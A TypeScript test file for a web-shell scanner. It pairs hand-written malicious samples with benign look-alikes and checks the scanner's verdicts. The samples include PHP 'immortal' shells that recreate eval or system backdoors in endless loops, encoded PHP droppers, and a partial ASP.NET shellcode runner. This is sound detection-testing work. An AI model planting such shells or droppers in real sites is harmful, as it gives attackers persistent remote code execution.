import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { createScanner } from './scanner.js';

// The misses of session 27's held-out sets P and Q, looked at after their first scan (the figures in
// docs/scan.md are that scan's), each technique written again by us: the sets stay outside the
// project. Beside each, code of the same shape that is not a shell.
const scanner = createScanner({});
const scan = (src: string, path = '/www/x.php') => scanner.scanBuffer(Buffer.from(src, 'latin1'), path);
const b64 = (s: string) => Buffer.from(s, 'latin1').toString('base64');

// [what, the rule that must be among the findings, path, the file]
const MALICIOUS: [string, string, string, string][] = [
  ['an "immortal" shell: the request may end, a loop that never ends writes a hidden PHP file again', 'mamori:immortal-rewriter', '/www/i.php', `<?php
ignore_user_abort(true);
set_time_limit(0);
@unlink(__FILE__);
$f = dirname(__FILE__) . '/.cache-' . 'x.php';
$body = '<?php if (md5($_POST["k"]) == "0cc175b9c0f1b6a831c399e269772661") { @eval($_POST["c"]); } ?>';
while (1) {
  if (!file_exists($f) || md5_file($f) !== md5($body)) file_put_contents($f, $body);
  usleep(2000);
}`],
  ['an immortal shell rewriting its own file from an encoded copy, for (;;) and fwrite', 'mamori:immortal-rewriter', '/www/j.php', `<?php set_time_limit(0); ignore_user_abort(1);
for (;;) { $h = fopen(__FILE__, 'w'); fwrite($h, base64_decode('${b64('<?php system($_GET[1]);')}')); fclose($h); touch(__FILE__, mktime(9, 0, 0, 1, 1, 2019)); sleep(1); }`],
  ['a one-line dropper writing encoded PHP under a .php name of its own', 'mamori_php_encoded_php_dropper', '/www/d.php', `<?php
file_put_contents("a9x2k.php", base64_decode("${b64('<?php header("Location: http://spam.example/"); ?>')}"));`],
  ['a dropper writing gzip-compressed PHP', 'mamori_php_encoded_php_dropper', '/www/d2.php', `<?php
@file_put_contents('wp-conf.php', @gzinflate("\\xcb\\x48\\xcd\\xc9\\xc9\\x07\\x00"));`],
  ['ASP.NET: a shellcode runner importing its functions at run time (DefinePInvokeMethod), bytes copied into the memory', 'mamori_aspx_shellcode_runner', '/www/r.aspx', `<%@ Page Language="C#" %>
<%@ Import Namespace="System.Reflection.Emit" %>
<%@ Import Namespace="System.Runtime.InteropServices" %>
<script runat="server">
static object Call(string lib, string fn, object[] args, Type[] types, Type ret) {
  var ab = AppDomain.CurrentDomain.DefineDynamicAssembly(new AssemblyName("a"), AssemblyBuilderAccess.Run);
  var mb = ab.DefineDynamicModule("m");
  var m = mb.DefinePInvokeMethod(fn, lib, MethodAttributes.Public | MethodAttributes.Static | MethodAttributes.PinvokeImpl, CallingConventions.Standard, ret, types, CallingConvention.Winapi, CharSet.Ansi);
  mb.CreateGlobalFunctions();
  return mb.GetMethod(fn).Invoke(null, args);
}
protected void Page_Load(object s, EventArgs e) {
  byte[] sc = Unseal(Blob);
  IntPtr mem = (IntPtr)Call(Dec(K1), Dec(F1), new object[] { IntPtr.Zero, (uint)sc.Length, 0x3000u, 0x40u }, new[] { typeof(IntPtr), typeof(uint), typeof(uint), typeof(uint) }, typeof(IntPtr));
  Marshal.Copy(sc, 0, mem, sc.Length);
  Call(Dec(K1), Dec(F2), new object[] { 0u, 0u, mem, IntPtr.Zero, 0u, IntPtr.Zero }, null, typeof(IntPtr));
}
</script>`],
];

// [what, path, the file]: code of the same shapes that is not a shell
const BENIGN: [string, string, string][] = [
  ['a cron endpoint that keeps running after the visitor leaves and writes its log', '/www/cron.php', `<?php
ignore_user_abort(true);
set_time_limit(0);
foreach (due_jobs() as $job) { run_job($job); file_put_contents(__DIR__ . '/logs/cron.log', date('c') . " {$job}\\n", FILE_APPEND); }`],
  ['a long-polling endpoint: a loop that ends when there is news, ignore_user_abort off', '/www/poll.php', `<?php
ignore_user_abort(false);
while (true) { $n = check_news(); if ($n) { echo json_encode($n); break; } if (connection_aborted()) break; usleep(250000); }`],
  ['an installer writing config.php from a template kept as text', '/www/install/step3.php', `<?php
$tpl = file_get_contents(__DIR__ . '/config.tpl');
file_put_contents('../config.php', strtr($tpl, array('{DB}' => var_export($db, true))));`],
  ['an importer writing a decoded image under a name of its own', '/www/admin/import.php', `<?php
file_put_contents('uploads/logo.png', base64_decode($settings['logo']));`],
  ['ASP.NET: a page calling a native library it declares with DllImport, no memory written', '/www/info.aspx', `<%@ Page Language="C#" %>
<script runat="server">
[System.Runtime.InteropServices.DllImport("kernel32.dll")] static extern uint GetTickCount();
protected void Page_Load(object s, EventArgs e) { byte[] b = new byte[4]; System.Runtime.InteropServices.Marshal.Copy(new IntPtr(0), b, 0, 0); Response.Write(GetTickCount()); }
</script>`],
];

describe('scan: held-out sets P and Q (session 27), their misses, samples of our own', () => {
  for (const [name, rule, path, src] of MALICIOUS) {
    it(`malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
      assert.ok(r.findings.some((f) => f.rule === rule), `${rule} not among ${r.findings.map((f) => f.rule).join(', ')}`);
    });
  }
  for (const [name, path, src] of BENIGN) {
    it(`not malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.notEqual(r.verdict, 'malicious', JSON.stringify(r.findings));
    });
  }
  it('ran every case', () => {
    assert.equal(MALICIOUS.length, 5);
    assert.equal(BENIGN.length, 5);
  });
});
